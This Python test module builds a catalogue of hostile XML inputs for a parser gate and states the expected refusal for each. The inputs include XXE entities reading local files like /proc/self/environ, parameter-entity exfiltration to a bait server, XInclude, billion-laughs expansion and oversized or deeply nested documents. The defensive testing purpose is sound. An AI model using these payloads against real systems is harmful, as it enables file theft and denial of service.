"""The attack list: what a hostile file may hold, and what becomes of it, stated beforehand.

Every family has at least twenty variants. `Attack.outcome` is the gate's code, or for what comes in the value that is
read from the element `v` (`Reads`). What belongs to characters and values is in `attacks_text`.
Sources: OWASP's cheat sheets on XML external entities and XML security; XML 1.0; Namespaces in XML 1.0; CVE-2023-52425.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

M = 1_000_000


@dataclass(frozen=True)
class Bait:
    """What an attack tries to reach: a file with a canary, and a server that counts who comes."""

    path: str
    http: str  # http://host:port

    @property
    def hosts(self) -> str:
        """host:port."""
        return self.http.removeprefix("http://")


@dataclass(frozen=True)
class Reads:
    """The file comes in, and `v` has this value."""

    value: str


@dataclass(frozen=True)
class Attack:
    """One hostile file, made when it is needed. `outcome`: the code it is refused with, or what is read."""

    family: str
    name: str
    make: Callable[[Bait], bytes]
    outcome: str | Reads

    def __str__(self) -> str:
        return f"{self.family}: {self.name}"


def attack(family: str, name: str, text: str | bytes | Callable[[], bytes], outcome: str | Reads) -> Attack:
    """Short hand. In a text {file}, {path}, {http} and {hosts} are filled in; bytes are taken as they are."""

    def make(bait: Bait) -> bytes:
        if isinstance(text, bytes):
            return text
        return fill(text, bait).encode() if isinstance(text, str) else text()

    return Attack(family, name, make, outcome)


def fill(text: str, bait: Bait) -> str:
    """The text with the bait's places in it."""
    named = {"file": f"file://{bait.path}", "path": bait.path, "http": bait.http, "hosts": bait.hosts}
    for key, value in named.items():
        text = text.replace(f"{{{key}}}", value)
    return text


FILES = (
    "{file}", "file:{path}", "file://localhost{path}", "FILE://{path}", "{path}", "file:///../../../..{path}",
    "jar:{file}!/x", "netdoc:{path}", "php://filter/read=convert.base64-encode/resource={path}", "local_file:{path}",
    "file:///proc/self/environ",
)  # fmt: skip
SITES = (
    "{http}/x", "{http}/x?d=1", "{http}/x.dtd", "HTTP://{hosts}/x", "http://a:b@{hosts}/x", "//{hosts}/x",
    "https://{hosts}/x", "ftp://{hosts}/x", "gopher://{hosts}/_x", "ldap://{hosts}/x", "dict://{hosts}/x",
)  # fmt: skip
SHAPES = (
    '<!DOCTYPE r [<!ENTITY x SYSTEM "%s">]><r><v>&x;</v></r>',
    "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//X//Y//EN\" '%s'>]><r><v>1&x;2</v></r>",
    '<?xml version="1.0" standalone="no"?>\n<!-- -->\n<!DOCTYPE r [<!ENTITY x SYSTEM "%s">]><r v="&x;"><v/></r>',
)


def entities() -> Iterator[Attack]:
    """External general entities that name a file, and such that name a place on the net."""
    for family, places in (("XXE file", FILES), ("XXE http", SITES)):
        for place, (number, shape) in product(places, enumerate(SHAPES, 1)):
            yield attack(family, f"{place} shape {number}", shape % place, "DOCTYPE")


PARAMETER = (
    '<!DOCTYPE r [<!ENTITY %% x SYSTEM "%s"> %%x;]><r><v>1</v></r>',
    '<!DOCTYPE r [<!ENTITY %% x PUBLIC "p" "%s"> %%x; %%y;]><r><v>&z;</v></r>',
    "<!DOCTYPE r [<!ENTITY %% a \"<!ENTITY &#37; b SYSTEM '%s'>\"> %%a; %%b;]><r><v>1</v></r>",
    '<!DOCTYPE r [<!ENTITY %% f SYSTEM "{file}"><!ENTITY %% d SYSTEM "%s"> %%d; %%send;]><r><v>1</v></r>',
    '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY %% x SYSTEM "%s"><!ENTITY e "%%x;">]><r><v>&e;</v></r>',
)


def parameters() -> Iterator[Attack]:
    """Parameter entities, also the kind that carries a file's text out in an address."""
    for place, (number, shape) in product((*FILES[:3], *SITES[:3]), enumerate(PARAMETER, 1)):
        yield attack("XXE parameter", f"{place} shape {number}", shape % place, "DOCTYPE")


def inclusions() -> Iterator[Attack]:
    """XInclude needs no DOCTYPE; it comes in as an element like any other and nobody follows it."""
    options = (
        "",
        ' parse="text"',
        ' parse="xml"',
        ' parse="text" encoding="utf-8"',
        ' xpointer="xpointer(/)"',
    )
    for place, option in product((*FILES[:3], *SITES[:3]), options):
        text = f'<r><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{place}"{option}/><v>7</v></r>'
        yield attack("XInclude", f"{place}{option}", text, Reads("7"))
    for space in ("http://www.w3.org/2001/XInclude", "http://www.w3.org/2003/XInclude"):
        inside = (
            f'<v xmlns:i="{space}">7<i:include href="{{file}}"><i:fallback>8</i:fallback></i:include></v>'
        )
        yield attack("XInclude", f"in the value, {space}", f"<r>{inside}</r>", Reads("7"))
        yield attack(
            "XInclude", f"is the document, {space}", f'<include xmlns="{space}" href="{{file}}"/>', Reads("")
        )


def subsets() -> Iterator[Attack]:
    """An external DTD, named in all ways; and words that only look like one."""
    for place in (*FILES[:5], *SITES[:6]):
        yield attack("external DTD", f"SYSTEM {place}", f'<!DOCTYPE r SYSTEM "{place}"><r/>', "DOCTYPE")
        text = f"<!DOCTYPE r PUBLIC '-//X//EN' '{place}' [<!ELEMENT r ANY>]><r/>"
        yield attack("external DTD", f"PUBLIC {place}", text, "DOCTYPE")
    for name, text, outcome in (
        ("small letters", '<!doctype r SYSTEM "{http}/x"><r/>', "NOT_XML"),
        ("after the root", '<r/><!DOCTYPE r SYSTEM "{http}/x">', "NOT_XML"),
        ("twice", '<!DOCTYPE r><!DOCTYPE r SYSTEM "{http}/x"><r/>', "DOCTYPE"),
        ("never closed", '<!DOCTYPE r SYSTEM "{http}/x" [', "DOCTYPE"),
        ("inside the root", '<r><!DOCTYPE r SYSTEM "{http}/x"></r>', "NOT_XML"),
        ("as text", '<r><v><![CDATA[<!DOCTYPE r SYSTEM "{http}/x">]]></v></r>',
        Reads('<!DOCTYPE r SYSTEM "{http}/x">')),
        ("in a comment", '<!--<!DOCTYPE r SYSTEM "{http}/x">--><r><v>1</v></r>', Reads("1")),
        ("hint of a schema", '<r xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation='
         '"{http}/x.xsd"><v>1</v></r>', Reads("1")),
        ("base address", '<r xml:base="{http}/"><v>1</v></r>', Reads("1")),
    ):  # fmt: skip
        yield attack("external DTD", name, text, outcome)


def laughs() -> Iterator[Attack]:
    """Entities that name entities, and such that name themselves."""
    for sign, (levels, each) in product("&%", ((2, 2), (5, 100), (10, 10), (30, 2), (100, 3), (1_000, 10))):
        mark = "% " if sign == "%" else ""
        lines = "".join(f'<!ENTITY {mark}e{i + 1} "{f"{sign}e{i};" * each}">' for i in range(levels))
        text = f'<!DOCTYPE r [<!ENTITY {mark}e0 "ha">{lines}]><r><v>&e{levels};</v></r>'
        yield attack("billion laughs", f"{sign} {levels} levels of {each}", text, "DOCTYPE")
        named = f'<!DOCTYPE r [<!ENTITY {mark}e0 "ha">{lines}<!ATTLIST r a CDATA "&e{levels};">]><r><v/></r>'
        yield attack("billion laughs", f"{sign} {levels} levels of {each}, default value", named, "DOCTYPE")
    for name, text in (
        ("itself", '<!ENTITY a "&a;">'),
        ("two in a ring", '<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    ):
        yield attack("billion laughs", name, f"<!DOCTYPE r [{text}]><r><v>&a;</v></r>", "DOCTYPE")
    yield attack("billion laughs", "without declarations", "<r><v>" + "&lol9;" * 9 + "</v></r>", "NOT_XML")


def _growing(start: bytes, filler: bytes, end: bytes, size: int) -> Callable[[], bytes]:
    return lambda: start + filler * (size // len(filler)) + end


def quadratic() -> Iterator[Attack]:
    """A large entity named often, and markup without an end, which a parser looks through again and again."""
    for size, often in product((1_000, 10_000, 100_000), (1_000, 10_000, 100_000)):
        text = f'<!DOCTYPE r [<!ENTITY a "{"a" * size}">]><r><v>{"&a;" * often}</v></r>'
        yield attack("quadratic", f"{size} characters {often} times", text.encode(), "DOCTYPE")
    for name, start, filler, outcome in (
        ("comment", b"<r><!--", b"x", "TEXT_TOO_LONG"),
        ("comment of hyphens", b"<r><!--", b"x-", "TEXT_TOO_LONG"),
        ("instruction", b"<r><?p ", b"?", "TEXT_TOO_LONG"),
        ("name", b"<", b"x", "TEXT_TOO_LONG"),
        ("value", b'<r a="', b"x", "TEXT_TOO_LONG"),
        ("value of references", b'<r a="', b"&#65;", "TEXT_TOO_LONG"),
        ("tag of blanks", b"<r ", b" ", "TEXT_TOO_LONG"),
        ("end tag", b"<r></r", b" ", "TEXT_TOO_LONG"),
        ("system identifier", b'<!DOCTYPE r SYSTEM "', b"x", "DOCTYPE"),
        ("name of a document type", b"<!DOCTYPE ", b"x", "DOCTYPE"),
        ("reference", b"<r>&", b"x", "TEXT_TOO_LONG"),
        ("character reference", b"<r>&#", b"0", "TEXT_TOO_LONG"),
    ):
        for size in (3 * M, 30 * M):
            yield attack(
                "quadratic", f"{name} of {size} without end", _growing(start, filler, b"", size), outcome
            )


def depths() -> Iterator[Attack]:
    """Elements in elements: one more than allowed, and very many more."""
    for depth, (name, start, end) in product(
        (101, 1_000, 10_000, 300_000),
        (
            ("plain", b"<a>", b"</a>"),
            ("never closed", b"<a>", b""),
            ("attribute", b"<a b='c'>", b"</a>"),
            ("namespace", b"<x:a xmlns:x='urn:x'>", b"</x:a>"),
            ("text", b"<a> x", b"</a>"),
            ("comment", b"<a><!---->", b"</a>"),
        ),
    ):
        nest = lambda d=depth, s=start, e=end: s * d + e * d  # noqa: E731
        yield attack("deep nesting", f"{name} {depth}", nest, "TOO_DEEP")
    for depth in (50, 98):
        text = "<a>" * depth + "<v>1</v>" + "</a>" * depth
        yield attack("deep nesting", f"{depth}, which is allowed", f"<r>{text}</r>", Reads("1"))


def widths() -> Iterator[Attack]:
    """Attributes by the thousand, long attributes, and such that are there twice."""
    for count, (name, one) in product(
        (101, 5_000, 100_000, 1_000_000),
        (
            ("attributes", b" a%d='x'"),
            ("empty attributes", b" a%d=''"),
            ("namespaces", b" xmlns:a%d='urn:x'"),
            ("prefixed", b" xml:a%d='x'"),
            ("with a > in them", b" a%d='>'"),
        ),
    ):
        many = lambda c=count, o=one: b"<r" + b"".join(o % i for i in range(c)) + b"/>"  # noqa: E731
        yield attack("wide attributes", f"{count} {name}", many, "TOO_MANY_ATTRIBUTES")
    for name, one in (("value", b"<r a='%s'/>"), ("name", b"<r %s='1'/>"), ("element", b"<%s/>")):
        for size in (200_001, 20 * M):
            long = lambda o=one, n=size: o % (b"x" * n)  # noqa: E731
            yield attack("wide attributes", f"{name} of {size}", long, "TEXT_TOO_LONG")
    longest = b"<r a='%s'><v>1</v></r>" % (b"x" * 199_998)
    yield attack("wide attributes", "200 000 characters, which is allowed", longest, Reads("1"))
    yield attack("wide attributes", "twice", b"<r a='1' a='2'/>", "NOT_XML")
    most = b"<r" + b"".join(b" a%d='x'" % i for i in range(100)) + b"><v>1</v></r>"
    yield attack("wide attributes", "100, which is allowed", most, Reads("1"))


def texts() -> Iterator[Attack]:
    """Texts beyond any need, whole and in pieces."""
    for (name, start, filler, end), size in product(
        (
            ("letters", b"<r><v>", b"x", b"</v></r>"),
            ("blanks", b"<r><v>", b" ", b"</v></r>"),
            ("lines", b"<r><v>", b"\n", b"</v></r>"),
            ("return and line", b"<r><v>", b"\r\nx", b"</v></r>"),
            ("CDATA", b"<r><v><![CDATA[", b"x", b"]]></v></r>"),
            ("many CDATA", b"<r><v>", b"<![CDATA[x]]>", b"</v></r>"),
            ("comments between", b"<r><v>", b"xxxxxxx<!---->", b"</v></r>"),
            ("instructions between", b"<r><v>", b"xxxxxxx<?p?>", b"</v></r>"),
            ("references", b"<r><v>", b"&#65;", b"</v></r>"),
            ("entities", b"<r><v>", b"&amp;", b"</v></r>"),
            ("a binary's name beside it", b"<r><xEmbeddedDocumentBinaryObject>", b"x", b"</r>"),
        ),
        (15 * M, 40 * M),
    ):
        yield attack("huge text", f"{name} {size}", _growing(start, filler, end, size), "TEXT_TOO_LONG")
    yield attack("huge text", "a whole file too big", _growing(b"<r>", b"x", b"</r>", 128 * M), "TOO_BIG")
    most = _growing(b"<r><v>", b"x", b"</v></r>", M)
    yield attack("huge text", "a million, which is allowed", most, Reads("x" * M))
    yield attack(
        "huge text",
        "a comment beside it",
        _growing(b"<r><!--", b"x", b"--><v>1</v></r>", 900_000),
        Reads("1"),
    )


def all_attacks() -> list[Attack]:
    """Every attack of every family."""
    from avrop.ubl.tests import attacks_text

    families = (entities, parameters, inclusions, subsets, laughs, quadratic, depths, widths, texts)
    return [one for family in (*families, *attacks_text.FAMILIES) for one in family()]
